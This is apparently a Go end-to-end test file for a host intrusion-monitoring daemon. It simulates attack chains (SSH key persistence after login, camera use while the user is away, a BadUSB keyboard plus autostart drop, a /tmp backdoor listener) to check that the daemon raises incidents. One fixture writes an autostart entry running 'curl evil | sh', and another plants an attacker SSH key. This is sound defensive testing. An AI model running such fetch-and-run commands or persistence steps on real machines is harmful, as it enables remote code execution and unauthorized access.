package e2e_test

import (
	"bufio"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"github.com/godbus/dbus/v5"

	"github.com/pantheros/secmon/dbus/dbustest"
	"github.com/pantheros/secmon/dbus/testutil"
	"github.com/pantheros/secmon/service/internal/event"
	"github.com/pantheros/secmon/service/internal/sshmon/sshmontest"
)

// The real daemon puts an SSH login (sshd's entry in a real journal file)
// and the login user's authorized_keys written afterwards (real inotify)
// together into one Critical Incident naming both events; a reload with
// the same [correlation] section in between keeps the login in mind.
func TestPersistenceAfterLoginIncident(t *testing.T) {
	j := sshmontest.NewJournal(t)
	e := newEnv(t)
	e.ssh = true
	homes := filepath.Join(e.dir, "home")
	// A name no test machine has: its home is home_root/NAME.
	const user = "secmon-e2e-mallory"
	dotSSH := filepath.Join(homes, user, ".ssh")
	if err := os.MkdirAll(dotSSH, 0o700); err != nil {
		t.Fatal(err)
	}
	e.writeConfig(t, fmt.Sprintf("\n[ssh]\njournal_directory = %q\nhome_root = %q\n\n[correlation]\nbadusb = false\n", j.Dir, homes))
	d := startDaemon(t, []string{e.config})
	s := connect(t, e.socket)
	s.send(`{"replay_after":0}`)
	if st := sshStatus(s); st.Metadata["state"] != "running" {
		t.Fatalf("ssh monitor %+v", st.Metadata)
	}

	// The session's sshd is this test process: the daemon names the
	// writer of authorized_keys (fanotify, as root), and the incident
	// needs it to descend from the session's sshd.
	accepted := sshmontest.SSHD("Accepted publickey for " + user + " from 203.0.113.9 port 50122 ssh2: " + sshFingerprint)
	accepted["_PID"] = strconv.Itoa(os.Getpid())
	j.Append(t, accepted)
	logins := s.until(func(e event.Event) bool { return e.Type == event.SshLogin })
	login := logins[len(logins)-1]

	d.cmd.Process.Signal(syscall.SIGHUP)
	d.notify.waitFor("READY=1")

	keys := filepath.Join(dotSSH, "authorized_keys")
	if err := os.WriteFile(keys, []byte("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMallory mallory@evil\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	var access event.Event
	got := s.until(func(e event.Event) bool {
		if e.Type == event.SshAccess && e.Path == keys && access.Seq == 0 {
			access = e
		}
		return e.Type == event.Incident
	})
	inc := got[len(got)-1]
	want := strconv.FormatUint(login.Seq, 10) + "," + strconv.FormatUint(access.Seq, 10)
	if inc.Severity != event.Critical || inc.Metadata["rule"] != "persistence_after_login" || inc.Metadata["members"] != want ||
		inc.Metadata["ssh_user"] != user || inc.Metadata["remote_ip"] != "203.0.113.9" || inc.Path != keys {
		t.Fatalf("incident %+v, want persistence_after_login of members %s", inc, want)
	}
}

// fakeLogind is python3-dbusmock's logind template on a private bus like
// the system bus, with logind's own policy. log is dbusmock's log file: a
// line a method call, properties' GetAll included.
type fakeLogind struct {
	bus  *dbustest.Bus
	conn *dbus.Conn
	log  string
}

func startLogind(t *testing.T) *fakeLogind {
	t.Helper()
	log := filepath.Join(t.TempDir(), "logind.log")
	b := dbustest.StartLogind(t, log)
	return &fakeLogind{bus: b, conn: b.Conn(t), log: log}
}

func (l *fakeLogind) call(t *testing.T, path dbus.ObjectPath, method string, args ...any) {
	t.Helper()
	if err := l.conn.Object("org.freedesktop.login1", path).Call(method, 0, args...).Err; err != nil {
		t.Fatalf("logind %s: %v", method, err)
	}
}

// asked counts the GetAll calls logind answered for session id.
func (l *fakeLogind) asked(id string) int {
	b, _ := os.ReadFile(l.log)
	return strings.Count(string(b), "GetAll /org/freedesktop/login1/session/"+id+" ")
}

// openCamera starts a copy of the test binary named cam-opener in dir that
// opens node and holds it until the test ends.
func openCamera(t *testing.T, dir, node string) *exec.Cmd {
	t.Helper()
	prog := filepath.Join(dir, "cam-opener")
	if _, err := os.Stat(prog); err != nil {
		self, _ := os.Executable()
		b, err := os.ReadFile(self)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(prog, b, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	cmd := exec.Command(prog)
	cmd.Env = append(os.Environ(), openerEnv+"="+node, "GORACE=atexit_sleep_ms=0")
	stdin, _ := cmd.StdinPipe()
	out, _ := cmd.StdoutPipe()
	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { stdin.Close(); cmd.Process.Kill(); cmd.Wait() })
	if line, err := bufio.NewReader(out).ReadString('\n'); line != "open\n" {
		t.Fatalf("cam-opener could not open %s: %q %v", node, line, err)
	}
	return cmd
}

// The real daemon asks a logind (python3-dbusmock's, on a private system
// bus) whether anyone is at this computer when its camera monitor sees a
// stand-in camera opened: while alice's session is active and unlocked,
// nothing; once her screen is locked, one Critical Incident naming the
// opening; once nobody is logged in, another.
func TestWatchingWhileAwayIncident(t *testing.T) {
	l := startLogind(t)
	l.call(t, "/org/freedesktop/login1", "org.freedesktop.DBus.Mock.AddSession", "c1", "seat0", uint32(1000), "alice", true)

	e := newEnv(t)
	for _, n := range []string{"video0", "video1", "video2"} {
		if err := os.WriteFile(filepath.Join(e.dir, n), nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	e.camera = filepath.Join(e.dir, "video*")
	e.writeConfig(t, "\n[correlation]\nbadusb = false\n")
	// dbus stays off: the daemon does not own its name on this bus, but
	// the correlator asks logind on it.
	startDaemon(t, []string{e.config}, "DBUS_SYSTEM_BUS_ADDRESS="+l.bus.Address())
	s := connect(t, e.socket)
	s.send(`{"replay_after":0,"types":["CameraAccess","Incident"]}`)

	// Alice is at the computer: the opening is asked about and passes.
	before := l.asked("c1")
	openCamera(t, e.dir, filepath.Join(e.dir, "video0"))
	present := s.until(func(ev event.Event) bool { return ev.Type == event.CameraAccess })
	if ev := present[len(present)-1]; ev.Path != filepath.Join(e.dir, "video0") {
		t.Fatalf("got %+v, want video0 opened", ev)
	}
	testutil.WaitFor(t, dbustest.Timeout, "the correlator asks logind about alice's session", func() bool { return l.asked("c1") > before })

	steps := []struct {
		name, node, reason string
		do                 func()
	}{
		{"her screen locks", "video1", "the screen was locked", func() {
			l.call(t, "/org/freedesktop/login1/session/c1", "org.freedesktop.login1.Session.SetLockedHint", true)
		}},
		{"she logs out", "video2", "nobody was logged in at this computer", func() {
			l.call(t, "/org/freedesktop/login1", "org.freedesktop.DBus.Mock.RemoveObject", dbus.ObjectPath("/org/freedesktop/login1/session/c1"))
		}},
	}
	for _, st := range steps {
		st.do()
		node := filepath.Join(e.dir, st.node)
		opener := openCamera(t, e.dir, node)
		// The correlator reads events in order: an incident for an
		// earlier opening would come before this one's.
		var opened event.Event
		got := s.until(func(ev event.Event) bool {
			if ev.Type == event.CameraAccess && ev.Path == node {
				opened = ev
			}
			return ev.Type == event.Incident
		})
		inc := got[len(got)-1]
		if opened.Seq == 0 || inc.Severity != event.Critical || inc.Metadata["rule"] != "watching_while_away" || inc.Path != node ||
			inc.Metadata["members"] != strconv.FormatUint(opened.Seq, 10) || inc.Metadata["reason"] != st.reason ||
			inc.Metadata["program"] != "cam-opener" || inc.Process == nil || inc.Process.PID != opener.Process.Pid {
			t.Fatalf("%s: incident %+v (process %+v), want a Critical watching_while_away of %s (seq %d) by cam-opener pid %d, reason %q",
				st.name, inc, inc.Process, node, opened.Seq, opener.Process.Pid, st.reason)
		}
	}
}

// The real daemon under umockdev: a USB keyboard never seen before is
// hot-plugged, then an autostart entry appears (real inotify): one
// Critical badusb Incident naming both. After a restart (the correlator
// forgets, the USB memory does not) the same keyboard plugged again and
// another autostart entry are nothing; a keyboard never seen, with another
// serial, then is one again, and comes first: the correlator reads in
// order, so an incident for the known keyboard would have come before it.
func TestBadUSBIncident(t *testing.T) {
	e := newEnv(t)
	e.usb = true
	autostart := filepath.Join(e.tree, "home", "mallory", ".config", "autostart")
	if err := os.MkdirAll(autostart, 0o755); err != nil {
		t.Fatal(err)
	}
	e.writeConfig(t, "\n[correlation]\nwatching_while_away = false\n")
	// A second keyboard: the same model with a serial never seen.
	kb, err := os.ReadFile(filepath.Join(usbTestdata, "keyboard.umockdev"))
	if err != nil {
		t.Fatal(err)
	}
	other := filepath.Join(e.dir, "other-keyboard.umockdev")
	if err := os.WriteFile(other, []byte(strings.ReplaceAll(string(kb), "KB0042", "KB0666")), 0o644); err != nil {
		t.Fatal(err)
	}
	b := startUSBDaemon(t, e)
	s := connect(t, e.socket)
	s.send(`{"replay_after":0,"types":["UsbDeviceInserted","UsbDeviceRemoved","FileCreate","Incident"]}`)

	// plug adds fixture and returns its insertion, which must say known;
	// no incident may come before it.
	plug := func(s *stream, fixture, known string) event.Event {
		t.Helper()
		b.do("add", fixture)
		evs := s.until(isUSB)
		for _, ev := range evs {
			if ev.Type == event.Incident {
				t.Fatalf("incident before %s was plugged in: %+v", fixture, ev)
			}
		}
		ev := evs[len(evs)-1]
		wantUSB(t, ev, event.UsbDeviceInserted, ev.Severity, map[string]string{"known": known, "found_by": "hotplug"})
		return ev
	}
	// drop writes an autostart entry and returns what comes up to its
	// FileCreate, which is last.
	drop := func(s *stream, name string) []event.Event {
		t.Helper()
		p := filepath.Join(autostart, name)
		if err := os.WriteFile(p, []byte("[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		return s.until(func(ev event.Event) bool { return ev.Type == event.FileCreate && ev.Path == p })
	}
	// incident reads on to the next incident and checks it is badusb of
	// the keyboard kbd and the entry created by file.
	incident := func(s *stream, kbd, file event.Event) event.Event {
		t.Helper()
		got := s.until(func(ev event.Event) bool { return ev.Type == event.Incident })
		inc := got[len(got)-1]
		want := strconv.FormatUint(kbd.Seq, 10) + "," + strconv.FormatUint(file.Seq, 10)
		if inc.Severity != event.Critical || inc.Metadata["rule"] != "badusb" || inc.Metadata["members"] != want || inc.Path != file.Path ||
			!strings.Contains(inc.Metadata["device"], "046d:c31c") {
			t.Fatalf("incident %+v, want a Critical badusb of members %s", inc, want)
		}
		return inc
	}

	kbd := plug(s, "keyboard.umockdev", "false")
	evs := drop(s, "evil.desktop")
	inc := incident(s, kbd, evs[len(evs)-1])
	b.do("remove", "keyboard.umockdev")
	removed := s.until(func(ev event.Event) bool { return ev.Type == event.UsbDeviceRemoved })
	last := max(inc.Seq, removed[len(removed)-1].Seq)

	b.do("stop", "")
	b.do("start", "")
	b.notify.waitFor("READY=1", b.daemonProc)
	s = connect(t, e.socket)
	s.send(fmt.Sprintf(`{"replay_after":%d,"types":["UsbDeviceInserted","UsbDeviceRemoved","FileCreate","Incident"]}`, last))

	plug(s, "keyboard.umockdev", "true")
	for _, ev := range drop(s, "evil2.desktop") {
		if ev.Type == event.Incident {
			t.Fatalf("incident for a keyboard seen before: %+v", ev)
		}
	}
	b.do("remove", "keyboard.umockdev")
	for _, ev := range s.until(func(ev event.Event) bool { return ev.Type == event.UsbDeviceRemoved }) {
		if ev.Type == event.Incident {
			t.Fatalf("incident for a keyboard seen before: %+v", ev)
		}
	}
	kbd = plug(s, other, "false")
	evs = drop(s, "evil3.desktop")
	for _, ev := range evs {
		if ev.Type == event.Incident {
			t.Fatalf("incident before the new keyboard's: %+v", ev)
		}
	}
	incident(s, kbd, evs[len(evs)-1])
}

// The real daemon in a network namespace, its network monitor on: a
// program under /tmp listening on loopback is nothing; another listening
// on every address is one High backdoor_listener Incident naming it and
// its NetworkListen (and comes first: an incident for the loopback one
// would have come before it).
func TestBackdoorListenerIncident(t *testing.T) {
	e := newEnv(t)
	e.network = true
	e.writeConfig(t, "\n[correlation]\nwatching_while_away = false\n")
	_, ns := startNetDaemon(t, e)
	s := connect(t, e.socket)
	s.send(`{"replay_after":0,"types":["MonitorStatus","NetworkListen","Incident"]}`)
	st := s.until(func(ev event.Event) bool {
		return ev.Type == event.MonitorStatus && ev.Metadata["monitor"] == "network"
	})
	if ev := st[len(st)-1]; ev.Metadata["state"] != "running" {
		t.Fatalf("network monitor %s: %s", ev.Metadata["state"], ev.Metadata["reason"])
	}
	// The rule looks for programs under /tmp itself, whatever TMPDIR is.
	dir, err := os.MkdirTemp("/tmp", "smbd")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })

	listen := func(name, addr string) (*netHelper, event.Event) {
		t.Helper()
		h := startNetHelper(t, dir, name, ns, "listen", addr)
		evs := s.until(func(ev event.Event) bool {
			return ev.Type == event.NetworkListen && ev.Metadata["state"] == "listening" && ev.Process != nil && ev.Process.PID == h.cmd.Process.Pid
		})
		for _, ev := range evs {
			if ev.Type == event.Incident {
				t.Fatalf("incident before %s listened: %+v", name, ev)
			}
		}
		return h, evs[len(evs)-1]
	}
	listen("bd-local", "127.0.0.1:0")
	h, ev := listen("bd-open", "0.0.0.0:0")
	got := s.until(func(ev event.Event) bool { return ev.Type == event.Incident })
	inc := got[len(got)-1]
	exe := filepath.Join(dir, "bd-open")
	if inc.Severity != event.High || inc.Metadata["rule"] != "backdoor_listener" || inc.Metadata["members"] != strconv.FormatUint(ev.Seq, 10) ||
		inc.Metadata["program"] != "bd-open" || inc.Metadata["reason"] != "its program is under /tmp" ||
		inc.Process == nil || inc.Process.PID != h.cmd.Process.Pid || !strings.Contains(inc.Description, ev.Path) {
		t.Fatalf("incident %+v (process %+v), want a High backdoor_listener of %s (seq %d, %s)", inc, inc.Process, exe, ev.Seq, ev.Path)
	}
}
